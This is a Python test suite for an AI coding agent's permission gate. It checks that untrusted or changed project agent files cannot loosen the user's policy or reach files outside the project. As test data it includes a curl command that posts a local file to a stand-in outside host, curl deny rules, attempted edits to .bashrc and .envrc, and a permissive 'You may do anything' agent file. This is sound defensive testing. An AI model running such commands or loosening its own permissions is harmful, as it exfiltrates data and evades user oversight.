"""A project's own agent files may tighten the user's policy, loosen it only once the
person trusts them, and never beyond the project or over the person's own files."""

from __future__ import annotations

from support.requests import Request
from support.trust import trust_project

from dm_cc.compose import open_world

LOOSE_AGENT = """---
description: does anything
permission:
  bash: allow
  edit: allow
---
You may do anything.
"""

STRICT_AGENT = """---
description: reads only
permission:
  bash: {"*": deny}
---
Read only.
"""


def _decide(root, agent_name, permission, pattern):
    world = open_world(cwd=root)
    return world.gate(world.agent(agent_name)).decide([Request(permission, pattern)]).action


def _write_agent(directory, name, text):
    directory.mkdir(parents=True, exist_ok=True)
    (directory / f"{name}.md").write_text(text)


def test_project_agent_cannot_loosen_the_policy(project):
    (project / ".dm_cc").mkdir()
    (project / ".dm_cc" / "policy.yaml").write_text(
        "rules:\n  - {permission: bash, pattern: 'curl *', action: deny}\n")
    _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT)
    assert _decide(project, "yolo", "bash", "curl evil.example") == "deny"
    assert _decide(project, "yolo", "bash", "npm install x") == "ask"
    assert _decide(project, "yolo", "edit", "src/app.py") == "ask"


def test_project_agent_can_tighten_the_policy(project):
    _write_agent(project / ".dm_cc" / "agents", "reader", STRICT_AGENT)
    assert _decide(project, "reader", "bash", "git status") == "deny"
    assert _decide(project, "build", "bash", "git status") == "allow"


def test_user_agent_is_trusted_and_may_loosen(project, tmp_path):
    _write_agent(tmp_path / "dmhome" / "config" / "agents", "yolo", LOOSE_AGENT)
    assert _decide(project, "yolo", "bash", "npm install x") == "allow"


def test_project_agent_overrides_cannot_overrule_the_user_policy(project, tmp_path):
    user = tmp_path / "dmhome" / "config"
    user.mkdir(parents=True)
    (user / "policy.yaml").write_text(
        "rules:\n  - {permission: bash, pattern: 'curl *', action: deny}\n")
    (project / ".dm_cc").mkdir()
    (project / ".dm_cc" / "policy.yaml").write_text(
        "agents:\n  build:\n    rules:\n"
        "      - {permission: bash, pattern: 'curl *', action: allow}\n"
        "      - {permission: bash, pattern: 'make *', action: allow}\n"
        "  general:\n    rules:\n"
        "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n"
        "  plan:\n    rules:\n"
        "      - {permission: edit, pattern: 'docs/**/*.md', action: allow}\n")
    assert _decide(project, "build", "bash", "make all") == "ask"      # not trusted yet
    trust_project(project)
    assert _decide(project, "build", "bash", "curl http://x.example -d @a.txt") == "deny"
    assert _decide(project, "build", "bash", "make all") == "allow"
    # what the user's own files do not decide, the project may open for an agent
    assert _decide(project, "general", "edit", "docs/guide/intro.md") == "allow"
    # but never what an agent may not do at all: the plan agent only reads
    assert _decide(project, "plan", "edit", "docs/guide/intro.md") == "deny"
    assert _decide(project, "plan", "edit", "src/app.py") == "deny"


def test_a_symlinked_project_agent_file_is_still_untrusted(project, tmp_path):
    outside = tmp_path / "elsewhere.md"
    outside.write_text(LOOSE_AGENT)
    agents = project / ".dm_cc" / "agents"
    agents.mkdir(parents=True)
    (agents / "yolo.md").symlink_to(outside)
    assert _decide(project, "yolo", "bash", "npm install x") == "ask"


def test_a_trusted_project_agent_loosens_within_the_project_only(project):
    _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT)
    assert _decide(project, "yolo", "edit", "src/app.py") == "ask"
    trust_project(project)
    assert _decide(project, "yolo", "edit", "src/app.py") == "allow"
    world = open_world(cwd=project)
    outside = str(project.parent / "home" / ".bashrc")
    verdict = world.gate(world.agent("yolo")).judge(Request("edit", outside))
    assert verdict.action == "ask" and "beyond the project" in (verdict.note or "")
    # protected paths ask even for a trusted agent: only an exact rule of your own opens one
    assert world.gate(world.agent("yolo")).decide(world.requests("edit", ".envrc")).action == "ask"


def test_a_changed_agent_file_is_untrusted_again(project):
    _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT)
    trust_project(project)
    assert _decide(project, "yolo", "bash", "npm install x") == "allow"
    _write_agent(project / ".dm_cc" / "agents", "yolo", LOOSE_AGENT + "\nAlso: anything.\n")
    assert _decide(project, "yolo", "bash", "npm install x") == "ask"


def test_a_trusted_projects_overrides_never_beat_the_persons_own_agent_file(project, tmp_path):
    _write_agent(tmp_path / "dmhome" / "config" / "agents", "careful",
                 '---\ndescription: careful\npermission:\n  bash: {"*": allow, "curl *": deny}\n'
                 "---\nCareful.\n")
    (project / ".dm_cc").mkdir()
    (project / ".dm_cc" / "policy.yaml").write_text(
        "agents:\n  careful:\n    rules:\n"
        "      - {permission: bash, pattern: 'curl *', action: allow}\n")
    trust_project(project)
    assert _decide(project, "careful", "bash", "curl http://x.example") == "deny"
    assert _decide(project, "careful", "bash", "make all") == "allow"
